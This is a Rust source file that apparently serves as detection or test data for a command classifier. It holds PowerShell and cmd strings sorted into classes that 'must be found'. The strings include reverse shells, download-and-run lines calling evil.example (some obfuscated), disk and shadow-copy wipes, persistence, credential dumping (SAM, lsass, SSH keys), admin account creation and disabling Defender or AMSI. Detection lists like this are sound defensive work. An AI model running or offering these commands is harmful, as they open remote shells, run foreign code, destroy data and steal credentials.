//! Commands of PowerShell and `cmd` that must be found.

use super::Class::{self, *};

pub(super) const WINDOWS: &[(Class, &[&str])] = &[
    (
        ReverseShell,
        &[
            "$client = New-Object System.Net.Sockets.TCPClient('10.0.0.1',4242);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};while(($i = $stream.Read($bytes, 0, $bytes.Length)) -ne 0){;$data = (New-Object -TypeName System.Text.ASCIIEncoding).GetString($bytes,0, $i);$sendback = (iex $data 2>&1 | Out-String );}",
            "powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('10.0.0.1',4242);$s=$c.GetStream();iex $d\"",
            "powercat -c 10.0.0.1 -p 4242 -e cmd",
            "nc.exe -e cmd.exe 10.0.0.1 4242",
        ],
    ),
    (
        DownloadAndRun,
        &[
            "IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x.ps1')",
            "iex (iwr http://evil.example/x.ps1 -UseBasicParsing)",
            "I`EX (N`ew-Object Net.WebClient).Down`loadString('http://evil.example/x')",
            "powershell -ep bypass -c \"IEX (New-Object Net.WebClient).DownloadString('http://evil.example/x')\"",
            "Invoke-Expression (Invoke-RestMethod http://evil.example/x)",
            "certutil -urlcache -split -f http://evil.example/x.exe x.exe & x.exe",
            "c^ert^util -url^cache -f http://evil.example/x.exe x.exe",
            "bitsadmin /transfer j http://evil.example/x.exe c:\\x.exe",
            "mshta http://evil.example/x.hta",
            "regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll",
            "irm http://evil.example/x | iex",
            "& ('i'+'ex') (New-Object Net.WebClient).('Download'+'String').Invoke('http://evil.example/x')",
            "& (\"{1}{0}\" -f 'ex','i') (iwr http://evil.example/x)",
            "(New-Object Net.WebClient).DownloadFile('http://evil.example/x.exe','x.exe'); Start-Process x.exe",
        ],
    ),
    (
        Destructive,
        &[
            "Remove-Item -Recurse -Force C:\\",
            "Remove-Item C:\\* -Recurse -Force",
            "rm -r -fo C:\\Windows",
            "rd /s /q C:\\",
            "del /f /s /q C:\\*",
            "format C: /q /y",
            "vssadmin delete shadows /all /quiet",
            "wmic shadowcopy delete",
            "wevtutil cl Security",
            "Clear-EventLog -LogName Security",
            "Format-Volume -DriveLetter C",
            "cipher /w:C",
            "bcdedit /set {default} recoveryenabled No",
            "cmd /c \"rd /s /q C:\\Users\"",
        ],
    ),
    (
        Persistence,
        &[
            "schtasks /create /tn x /tr c:\\x.exe /sc onlogon",
            "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d c:\\x.exe",
            "New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run -Name x -Value c:\\x.exe",
            "Register-ScheduledTask -TaskName x -Action $a",
            "net user evil P4ss /add",
            "sc create x binPath= c:\\x.exe",
        ],
    ),
    (
        CredentialRead,
        &[
            "reg save HKLM\\SAM sam.hive",
            "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 lsass.dmp full",
            "Get-Content $env:USERPROFILE\\.aws\\credentials",
            "netsh wlan show profile x key=clear",
            "type C:\\Users\\bob\\.ssh\\id_rsa",
            "cmdkey /list",
        ],
    ),
    (
        PrivilegeChange,
        &[
            "net localgroup administrators evil /add",
            "Add-LocalGroupMember -Group Administrators -Member evil",
            "Start-Process powershell -Verb RunAs",
        ],
    ),
    (
        ProtectionOff,
        &[
            "Set-MpPreference -DisableRealtimeMonitoring $true",
            "netsh advfirewall set allprofiles state off",
            "[Ref].Assembly.GetType('System.Management.Automation.AmsiUtils')",
        ],
    ),
    (
        Obfuscation,
        &[
            "powershell -enc SQBFAFgAIAAxAA==",
            "powershell -e SQBFAFgAIAAxAA==",
            "powershell.exe -NoP -W Hidden -EncodedCommand SQBFAFgAIAAxAA==",
            "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('aWQ=')))",
        ],
    ),
];
